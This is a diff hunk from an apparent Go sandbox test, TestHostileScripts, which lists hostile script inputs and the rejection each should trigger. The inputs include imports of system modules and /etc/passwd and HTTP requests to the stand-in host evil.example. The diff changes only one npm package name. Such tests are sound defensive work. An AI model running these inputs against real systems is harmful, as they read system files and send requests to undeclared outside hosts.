@@ -158,7 +158,7 @@ func TestHostileScripts(t *testing.T) {
 		`await import("qjs:std")`:                                         {KindThrew, "qjs:std"},
 		`await import("qjs:os")`:                                          {KindThrew, "qjs:os"},
 		`await import(".......")`:                                         {KindThrew, "could not load"},
-		`await import("npm:ethers@6.10.0")`:                               {KindThrew, "npm:ethers@6.10.0"},
+		`await import("npm:axios@1.7.2")`:                                 {KindThrew, "npm:axios@1.7.2"},
 		`await import("/etc/passwd")`:                                     {KindThrew, "/etc/passwd"},
 		`Functions.makeHttpRequest({ url: "https://evil.example/?k=1" })`: {KindHost, "evil.example is not declared; the job's hosts are api.example, 127.0.0.1:9000"},
 		`try { await Functions.makeHttpRequest({ url: "https://evil.example" }) } catch {} return Buffer.from("x")`: {KindHost, "evil.example"},
